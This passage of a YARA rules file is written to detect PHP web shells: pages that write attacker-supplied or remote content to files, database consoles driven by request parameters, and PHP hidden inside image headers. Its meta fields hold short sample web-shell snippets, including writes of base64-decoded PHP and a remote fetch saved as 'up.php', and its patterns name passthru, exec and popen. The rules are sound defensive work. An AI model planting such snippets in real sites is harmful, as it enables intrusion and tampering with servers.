        $pass = /[^\w>:$\\]passthru\s*\(\s*\$/ nocase
        $open = /[^\w>:$\\]p(roc_)?open\s*\(\s*\$/ nocase
        $space = /\n\s*namespace\s+\w/
    condition:
        php_page and filesize < 300KB and not $space and 4 of ($exec, $shell, $system, $pass, $open)
}

rule php_drops_file : webshell php
{
    meta:
        description = "Small PHP page that writes hidden text, what it fetches or what a request brings into a file that it names"
        level = "high"
        source = "PHP manual: fopen, fwrite, file_put_contents, move_uploaded_file, base64_decode"
        match = "<?php $p=realpath('..').$_POST['a']; $t=urldecode($_POST['b']); @fwrite(fopen($p,\"w\"),$t); ?>"
        match_2 = "<?php $t=file_get_contents(\"https://example.org/raw/x\"); $o=fopen('up.php','w'); fwrite($o,$t); ?>"
        match_3 = "<?php @fputs(fopen(base64_decode('eC5waHA='),w),base64_decode('PD9waHAgeCgpOz8+')); ?>"
        near_miss = "<?php $t=file_get_contents('https://example.org/feed.xml'); echo $t; fwrite($log, date('c')); ?>"
    strings:
        $request = /\$\{?_(GET|POST|REQUEST|COOKIE)\b/
        $both = /\b(fwrite|fputs)\s*\(\s*@?fopen\s*\(\s*(\$|base64_decode)/ nocase
        $hidden = /\b(fwrite|fputs|file_put_contents)\s*\([^;]{0,90}base64_decode\s*\(\s*["']/ nocase
        $header = /\bfile_put_contents\s*\(\s*\$_SERVER\s*\[\s*["']HTTP_/ nocase
        $web = /\b(file_get_contents|http_get|\w{0,20}http\w{0,12}|curl_init)\s*\(\s*["']https?:\/\/[^"']{1,120}["']/ nocase
        $open = /\bfopen\s*\(\s*["'$][^;]{0,60},\s*["'][wa]/ nocase
        $write = /\b(fwrite|fputs|file_put_contents)\s*\(\s*["'$]/ nocase
        $path = /\.(php|phtml)\d?["']/
        $taken = /\$\w{0,12}(file|path|name)\w{0,12}\s*=\s*@?(stripslashes\s*\(\s*)?\$_(GET|POST|REQUEST)\s*\[/ nocase
        $upload = /\b(move_uploaded_file|copy)\s*\(\s*\$\w{1,20}\s*,/ nocase
        $files = /=\s*\$_FILES\s*\[[^\]]{1,30}\]\s*\[\s*["']?name["']?\s*\]\s*;/ nocase
        $field = /type\s*=\s*\\?["']?file\b/ nocase
        $check = /\b(pathinfo|in_array|getimagesize|preg_match|mime|extension|strrchr|explode|is_image|finfo)\b/ nocase
        $framework = /\b(namespace\s+\w|extends\s+\w|use\s+\w+\\)/
    condition:
        php_page and not $framework and filesize < 3KB and
        (($both and $request) or $hidden or $header or ($web and $write and $path) or
         ($taken and $open and $write) or ($upload and $files and $field and not $check))
}

rule php_database_console : webshell php
{
    meta:
        description = "PHP page that asks any database as a request says: its address and password from the request, all of its tables"
        level = "high"
        source = "PHP manual: MySQL functions; MySQL manual: SHOW, LOAD_FILE, INTO OUTFILE"
        match = "<?php $c=mysql_connect($_POST['host'],$_POST['user'],$_POST['pass']); mysql_query('show databases'); mysql_query('show tables'); mysql_query('drop table '.$t); ?>"
        near_miss = "<?php $c=mysql_connect($host,$user,$pass); mysql_query('select name from town'); mysql_query('show tables'); ?>"
    strings:
        $direct = /\b(mysqli?_p?connect|mssql_connect|pg_connect|new\s+mysqli)\s*\(\s*@?\$(_(POST|GET|REQUEST|COOKIE|SESSION)|HTTP_|PHP_AUTH)/ nocase
        $connect = /\bmysqli?_p?connect\s*\(/ nocase
        $taken = /\$\w{0,10}(host|user|pass|server)\w{0,10}\s*=\s*@?(trim\s*\(\s*)?\$_(POST|GET|REQUEST|COOKIE)\s*\[/ nocase
        $auth = /setcookie\s*\([^;]{0,40}(user|pass|host)/ nocase
        $a_1 = /\bmysql_list_dbs\s*\(|show\s+databases/ nocase
        $a_2 = /\bmysql_list_tables\s*\(|show\s+(full\s+)?tables|show\s+table\s+status/ nocase
        $a_3 = /\bmysql_drop_db\s*\(|drop\s+(table|database)/ nocase
        $a_4 = /\bload_file\b|into\s+(out|dump)file|load\s+data/ nocase
        $a_5 = /\b(passthru|exec|system)\s*\(/ nocase
        $space = /\n\s*(namespace|(abstract\s+|final\s+)?class)\s+\w/
    condition:
        php_page and filesize < 200KB and not $space and
        ((($direct or $taken) and 2 of ($a_*)) or ($auth and $connect and 3 of ($a_*)) or ($connect and $a_4 and 3 of ($a_*)))
}

rule php_in_picture : webshell php
{
    meta:
        description = "Picture that holds PHP"
        level = "high"
        source = "the beginnings of GIF, JPEG and PNG files"
        match = "GIF89a;<?php error_reporting(0); ?>"
        near_miss = "<?php header('Content-Type: image/gif'); echo 'GIF89a'; ?>"
    strings:
        $php = /<\?php\s/ nocase
        $gif = /GIF8[79]a/
    condition:
        filesize < 2MB and $php and
        ($gif at 0 or uint16be(0) == 0xffd8 or uint32be(0) == 0x89504e47)
}
